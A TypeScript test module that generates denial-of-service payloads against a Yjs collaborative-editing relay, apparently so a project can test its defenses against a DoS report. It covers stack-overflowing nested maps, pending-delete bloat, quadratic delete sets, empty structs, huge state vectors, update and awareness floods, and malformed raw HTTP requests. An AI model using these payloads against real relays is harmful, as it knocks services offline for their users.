/**
 * Hostile inputs for the relay, as bytes: each builder makes one attack from
 * the denial-of-service report (attack classes 1–7; the names of class 8 are
 * at the bottom). Pure functions: same parameters, same bytes. The defaults
 * are the report's sizes (and reproduce its byte counts); tests pass smaller
 * ones. Builders return Yjs v1 updates, state vectors or awareness updates;
 * frame them with `shared/protocol.ts` (`encodeUpdate`, `encodeSyncStep1`,
 * `encodeAwareness`).
 *
 * Client IDs are chosen for their varUint width, because the report's sizes
 * depend on it: IDs in [2^14, 2^21) take 3 bytes, [2^21, 2^28) take 4.
 */
import * as encoding from 'lib0/encoding'
import * as Y from 'yjs'
import { encodeAwarenessUpdate, type AwarenessEntry } from '../../shared/awareness-codec.ts'
import { deleteOnlyUpdate, itemsUpdate, writeClientHeader, writeGc, writeItem, writeSkip, type ClientDeletes, type ItemSpec } from './hostile-v1.ts'

export { deleteOnlyUpdate, itemsUpdate, type ClientDeletes } from './hostile-v1.ts'

/** The attacker's own client ID: 3 bytes as a varUint, and far from the random 32-bit IDs of real clients. */
export const ATTACKER_CLIENT = 1_000_001
/** First ID of the ranges of made-up client IDs that must take 3 bytes each. */
const FIRST_3_BYTE_ID = 2 ** 14
/** First ID of the ranges that must take 4 bytes each. */
const FIRST_4_BYTE_ID = 2 ** 21

// ---------------------------------------------------------------- 1. deep nest

/**
 * Attack 1, part one: a `Y.Map` nested `depth` levels deep under the root map
 * `root` (each level the value of key `key` of the one above). Yjs builds it
 * (in one transaction: one per level would make Yjs walk the whole parent
 * chain for every level). Stored, loaded and synced without trouble; the
 * damage comes with `deleteNestRoot`. Default 50,000 levels: 533,496 bytes.
 */
export function deepMapNest(options: { depth?: number; client?: number; root?: string; key?: string } = {}): Uint8Array {
  const { depth = 50_000, client = ATTACKER_CLIENT, root = 'nest', key = 'k' } = options
  const doc = new Y.Doc()
  doc.clientID = client
  let parent = doc.getMap(root)
  doc.transact(() => {
    for (let level = 0; level < depth; level++) {
      const child = new Y.Map()
      parent.set(key, child)
      parent = child
    }
  })
  const update = Y.encodeStateAsUpdate(doc)
  doc.destroy()
  return update
}

/**
 * Attack 1, part two: delete the outermost map of a `deepMapNest` (its first
 * item, clock 0 of `client`). Yjs deletes a type's children recursively, so
 * applying this overflows the stack once the nest is deep enough (about
 * 10,000 levels on Node 20), and so does every later load of a log that holds
 * it. 8 bytes with the default client.
 */
export function deleteNestRoot(options: { client?: number; clock?: number } = {}): Uint8Array {
  const { client = ATTACKER_CLIENT, clock = 0 } = options
  return deleteOnlyUpdate([{ client, ranges: [[clock, 1]] }])
}

// ------------------------------------------------- 2. deletes of unknown clients

/**
 * Attack 2: deletions for `clients` client IDs the document has never seen
 * (IDs `firstClient`, `firstClient + 1`...), `rangesPerClient` one-clock ranges
 * each. Yjs cannot apply them, keeps them as the document's pending delete
 * set, and re-reads and re-encodes all of it on every later update. Default
 * 300,000 clients with 4-byte IDs: 2,100,004 bytes.
 */
export function unknownClientDeletes(options: { clients?: number; firstClient?: number; rangesPerClient?: number } = {}): Uint8Array {
  const { clients = 300_000, firstClient = FIRST_4_BYTE_ID, rangesPerClient = 1 } = options
  const deletes: ClientDeletes[] = []
  for (let i = 0; i < clients; i++) {
    const ranges: [number, number][] = []
    for (let r = 0; r < rangesPerClient; r++) ranges.push([r * 2, 1])
    deletes.push({ client: firstClient + i, ranges })
  }
  return deleteOnlyUpdate(deletes)
}

// --------------------------------------------------- 3. quadratic delete sets

/**
 * Attack 3, setup: one item of `chars` characters appended to the root text
 * `root` by `client` from clock 0, so that there is something for
 * `descendingOneCharDeletes` to cut. An ordinary (large) edit.
 */
export function longTextInsert(options: { chars?: number; client?: number; root?: string } = {}): Uint8Array {
  const { chars = 80_000, client = ATTACKER_CLIENT, root = 'attack' } = options
  return itemsUpdate(client, 0, [{ parent: { root }, content: { kind: 'string', text: 'x'.repeat(chars) } }])
}

/**
 * Attack 3: `ranges` one-character deletions of `client`'s clocks
 * `firstClock`, `firstClock + stride`..., listed in descending order. Each
 * range splits the item that holds it, and Yjs inserts the split-off piece
 * with `Array.splice` into the client's struct list: descending, every
 * insert lands near the front, so the cost is the square of the range count.
 * The clocks must exist (see `longTextInsert`, or `descendingDeletesOverText`
 * for a live document). Default 40,000 ranges, stride 2: 151,752 bytes (cutting an 80,000-character item).
 */
export function descendingOneCharDeletes(options: { client?: number; ranges?: number; stride?: number; firstClock?: number } = {}): Uint8Array {
  const { client = ATTACKER_CLIENT, ranges = 40_000, stride = 2, firstClock = 0 } = options
  const list: [number, number][] = []
  for (let i = ranges - 1; i >= 0; i--) list.push([firstClock + i * stride, 1])
  return deleteOnlyUpdate([{ client, ranges: list }])
}

/**
 * Attack 3 against a live document: given its full state (e.g. the sync
 * step 2 a relay answers to an empty state vector), one-character deletions
 * of existing, undeleted text, every `stride`-th character, at most `ranges`
 * in all, each client's ranges in descending clock order. `clients` limits it
 * to those authors' text (e.g. the attacker's own, to leave honest text alone).
 */
export function descendingDeletesOverText(state: Uint8Array, options: { ranges?: number; stride?: number; clients?: readonly number[] } = {}): Uint8Array {
  const { ranges = 40_000, stride = 2, clients } = options
  const doc = new Y.Doc()
  Y.applyUpdate(doc, state)
  const clocks = new Map<number, number[]>()
  for (const [client, structs] of doc.store.clients) {
    if (clients && !clients.includes(client)) continue
    for (const struct of structs) {
      if (!(struct instanceof Y.Item) || struct.deleted || !(struct.content instanceof Y.ContentString)) continue
      const own = clocks.get(client) ?? []
      for (let offset = 0; offset < struct.length; offset += stride) own.push(struct.id.clock + offset)
      clocks.set(client, own)
    }
  }
  doc.destroy()
  // Spread the budget over the clients in Yjs's own order (highest ID first), highest clocks first.
  const deletes: ClientDeletes[] = []
  let left = ranges
  for (const client of [...clocks.keys()].sort((a, b) => b - a)) {
    if (left === 0) break
    const own = clocks.get(client)!.sort((a, b) => b - a).slice(0, left)
    left -= own.length
    deletes.push({ client, ranges: own.map((clock) => [clock, 1] as const) })
  }
  return deleteOnlyUpdate(deletes)
}

// ------------------------------------------------------- 4. updates of nothing

/**
 * Attack 4a: `structs` GC structs of length 0, all at clock 0 of `client`.
 * They decode, occupy no clock, and Yjs stores every one of them (one object
 * each) in the client's struct list. Default 2,000,000 structs: 4,000,009 bytes.
 */
export function zeroLengthGcStructs(options: { structs?: number; client?: number } = {}): Uint8Array {
  const { structs = 2_000_000, client = ATTACKER_CLIENT } = options
  const encoder = encoding.createEncoder()
  encoding.writeVarUint(encoder, 1)
  writeClientHeader(encoder, structs, client, 0)
  for (let i = 0; i < structs; i++) writeGc(encoder, 0)
  encoding.writeVarUint(encoder, 0)
  return encoding.toUint8Array(encoder)
}

/**
 * Attack 4b: an update listing `clients` clients with zero structs each.
 * Nothing to apply, but Yjs builds, sorts and walks an entry per client.
 * Default 1,000,000 clients from ID 2,000,000 (3- and 4-byte IDs): 5,902,852 bytes.
 */
export function emptyClients(options: { clients?: number; firstClient?: number } = {}): Uint8Array {
  const { clients = 1_000_000, firstClient = 2_000_000 } = options
  const encoder = encoding.createEncoder()
  encoding.writeVarUint(encoder, clients)
  for (let i = 0; i < clients; i++) writeClientHeader(encoder, 0, firstClient + i, 0)
  encoding.writeVarUint(encoder, 0)
  return encoding.toUint8Array(encoder)
}

/**
 * Variant of 4: `items` items of length 0 (empty string, empty `any` list, or
 * a zero-length deleted run) at clock 0 of `client`, in the root text `root`.
 * Real clients never write these; Yjs integrates them with no clock.
 */
export function zeroLengthItems(options: { items?: number; client?: number; root?: string; content?: 'string' | 'any' | 'deleted' } = {}): Uint8Array {
  const { items = 100_000, client = ATTACKER_CLIENT, root = 'attack', content = 'string' } = options
  const body: ItemSpec['content'] =
    content === 'string' ? { kind: 'string', text: '' } : content === 'any' ? { kind: 'any', values: [] } : { kind: 'deleted', length: 0 }
  const specs: ItemSpec[] = []
  for (let i = 0; i < items; i++) specs.push({ parent: { root }, content: body })
  return itemsUpdate(client, 0, specs)
}

/**
 * Variant of 4: `skips` Skip structs of `length` clocks each, then one
 * character after them. Skips are never applied; the character lands past
 * the receiver's clock, so Yjs keeps it (and the client) as pending structs.
 */
export function skipStructs(options: { skips?: number; length?: number; client?: number; root?: string } = {}): Uint8Array {
  const { skips = 100_000, length = 1, client = ATTACKER_CLIENT, root = 'attack' } = options
  const encoder = encoding.createEncoder()
  encoding.writeVarUint(encoder, 1)
  writeClientHeader(encoder, skips + 1, client, 0)
  for (let i = 0; i < skips; i++) writeSkip(encoder, length)
  writeItem(encoder, { parent: { root }, content: { kind: 'string', text: 'x' } })
  encoding.writeVarUint(encoder, 0)
  return encoding.toUint8Array(encoder)
}

/**
 * Variant of 2 with structs: `items` characters of `client`, the first of
 * which follows (origin) clock `missingClock` of `missingClient`, a client the
 * document has never seen. Nothing can be integrated; Yjs keeps the lot as
 * pending structs and re-tries them whenever that client's state advances.
 */
export function forwardReference(options: { items?: number; client?: number; missingClient?: number; missingClock?: number } = {}): Uint8Array {
  const { items = 1_000, client = ATTACKER_CLIENT, missingClient = FIRST_4_BYTE_ID - 1, missingClock = 1_000_000 } = options
  const specs: ItemSpec[] = [{ origin: { client: missingClient, clock: missingClock }, content: { kind: 'string', text: 'x' } }]
  for (let clock = 1; clock < items; clock++) specs.push({ origin: { client, clock: clock - 1 }, content: { kind: 'string', text: 'x' } })
  return itemsUpdate(client, 0, specs)
}

// ------------------------------------------------------- 5. huge state vector

/**
 * Attack 5: a state vector (the payload of a sync step 1) claiming `clients`
 * clients at `clock`. The relay decodes it into a Map and walks it to compute
 * its answer. Default 1,000,000 clients with 3-byte IDs: 4,000,003 bytes.
 */
export function hugeStateVector(options: { clients?: number; firstClient?: number; clock?: number } = {}): Uint8Array {
  const { clients = 1_000_000, firstClient = FIRST_3_BYTE_ID, clock = 1 } = options
  const encoder = encoding.createEncoder()
  encoding.writeVarUint(encoder, clients)
  for (let i = 0; i < clients; i++) {
    encoding.writeVarUint(encoder, firstClient + i)
    encoding.writeVarUint(encoder, clock)
  }
  return encoding.toUint8Array(encoder)
}

// ------------------------------------------------------------ 6. update burst

/**
 * Attack 6: `updates` one-character updates of `client`, each appending to the
 * previous one in the root text `root` (clocks 0, 1, 2...): a burst of the
 * smallest valid updates, each its own frame. Default 100,000.
 */
export function keystrokeBurst(options: { updates?: number; client?: number; root?: string } = {}): Uint8Array[] {
  const { updates = 100_000, client = ATTACKER_CLIENT, root = 'burst' } = options
  const list: Uint8Array[] = []
  for (let clock = 0; clock < updates; clock++) {
    const item: ItemSpec = clock === 0 ? { parent: { root }, content: { kind: 'string', text: 'x' } } : { origin: { client, clock: clock - 1 }, content: { kind: 'string', text: 'x' } }
    list.push(itemsUpdate(client, clock, [item]))
  }
  return list
}

// ---------------------------------------------------------------- 7. awareness

/**
 * Attack 7a: one awareness state of `bytes` bytes of JSON (a padded object)
 * for `clientId`. The relay keeps it and puts it in every joiner's first
 * awareness frame. Default 1,000,000 bytes.
 */
export function largeAwarenessState(options: { bytes?: number; clientId?: number; clock?: number } = {}): Uint8Array {
  const { bytes = 1_000_000, clientId = ATTACKER_CLIENT, clock = 1 } = options
  const shell = '{"pad":""}'
  const stateJson = `{"pad":"${'x'.repeat(Math.max(0, bytes - shell.length))}"}`
  return encodeAwarenessUpdate([{ clientId, clock, stateJson }])
}

/**
 * Attack 7b: one awareness update introducing `ids` client IDs (from
 * `firstId`, state `{}`): one socket then owns them all, and every joiner's
 * first frame carries them. Default 100,000 IDs: 700,003 bytes.
 */
export function manyAwarenessIds(options: { ids?: number; firstId?: number; clock?: number; stateJson?: string } = {}): Uint8Array {
  const { ids = 100_000, firstId = FIRST_3_BYTE_ID, clock = 1, stateJson = '{}' } = options
  const entries: AwarenessEntry[] = []
  for (let i = 0; i < ids; i++) entries.push({ clientId: firstId + i, clock, stateJson })
  return encodeAwarenessUpdate(entries)
}

/**
 * Attack 7c: `updates` awareness updates of one client, each with a new clock
 * and a small state (a cursor moving): every one is valid, so every one is
 * relayed to the whole room. Send them over a few seconds. Default 20,000.
 */
export function awarenessFlood(options: { updates?: number; clientId?: number } = {}): Uint8Array[] {
  const { updates = 20_000, clientId = ATTACKER_CLIENT } = options
  const list: Uint8Array[] = []
  for (let clock = 1; clock <= updates; clock++) {
    list.push(encodeAwarenessUpdate([{ clientId, clock, stateJson: `{"cursor":${clock}}` }]))
  }
  return list
}

/**
 * Attack 7d: `ids` client IDs added and removed again, `perUpdate` at a time:
 * an add of a batch, then its removal (`null` at the same clock). Every ID
 * is new, so a relay that remembers each removed ID's clock grows by `ids`
 * entries. A generator: 2,000,000 IDs would otherwise sit in memory at once.
 */
export function* awarenessChurn(options: { ids?: number; perUpdate?: number; firstId?: number } = {}): Generator<Uint8Array> {
  const { ids = 2_000_000, perUpdate = 10_000, firstId = FIRST_3_BYTE_ID } = options
  for (let start = 0; start < ids; start += perUpdate) {
    const batch: number[] = []
    for (let id = firstId + start; id < firstId + Math.min(ids, start + perUpdate); id++) batch.push(id)
    yield encodeAwarenessUpdate(batch.map((clientId) => ({ clientId, clock: 1, stateJson: '{}' })))
    yield encodeAwarenessUpdate(batch.map((clientId) => ({ clientId, clock: 1, stateJson: 'null' })))
  }
}

// -------------------------------------------------------------------- 8. names

/**
 * Attack 8: pairs of document names a person would take for one document,
 * which the relay may keep as two (Unicode normalization, a trailing slash).
 */
export const CONFUSABLE_NAMES: readonly { label: string; names: readonly [string, string] }[] = [
  { label: 'café NFC / NFD', names: ['caf\u00e9', 'cafe\u0301'] },
  { label: 'doc / doc/', names: ['doc', 'doc/'] },
]

/** A `Host` header value no URL parser accepts (a port out of range). */
export const MALFORMED_HOST = 'example.com:99999'

/** A path with a `..` segment, as a raw client can send it (stock clients and browsers resolve it first). */
export const DOT_SEGMENT_PATH = '/x/../y'

/**
 * Attack 8: a raw HTTP/1.1 request for `path`, as text for a TCP socket, with
 * the `Host` given (may be malformed) and, with `upgrade`, the headers of a
 * WebSocket handshake (RFC 6455's sample key).
 */
export function rawHttpRequest(options: { path: string; host: string; upgrade?: boolean }): string {
  const lines = [`GET ${options.path} HTTP/1.1`, `Host: ${options.host}`]
  if (options.upgrade) {
    lines.push('Upgrade: websocket', 'Connection: Upgrade', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==', 'Sec-WebSocket-Version: 13')
  } else {
    lines.push('Connection: close')
  }
  return `${lines.join('\r\n')}\r\n\r\n`
}
